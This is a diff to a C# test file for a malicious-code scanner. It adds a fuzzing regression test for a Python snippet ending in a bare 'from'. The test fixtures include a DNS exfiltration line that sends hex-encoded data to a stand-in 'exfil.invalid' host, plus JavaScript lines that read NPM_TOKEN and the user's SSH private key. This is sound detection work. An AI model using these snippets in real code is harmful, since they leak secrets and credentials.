@@ -130,6 +130,12 @@ public sealed class CodeRuleTests
     public void Python_dns_of_a_name_built_from_data_is_dns_exfil()
         => Has(Py("import socket\nsocket.gethostbyname(f'{data.hex()}.exfil.invalid')\n"), Rules.DnsExfil, Severity.High);
 
+    [Fact]
+    public void A_file_ending_in_a_bare_from_is_scanned_to_its_end()
+        // Found by afl++ on the package-archive harness (fuzz/regressions/package-archive/afl-python-from-*): `from` as
+        // the last token read past the token list.
+        => Has(Py("import socket\nsocket.gethostbyname(f'{data.hex()}.exfil.invalid')\nfrom"), Rules.DnsExfil, Severity.High);
+
     [Theory]
     [InlineData("const t = process.env.NPM_TOKEN;")]
     [InlineData("const k = fs.readFileSync(home + '/.ssh/id_rsa');")]
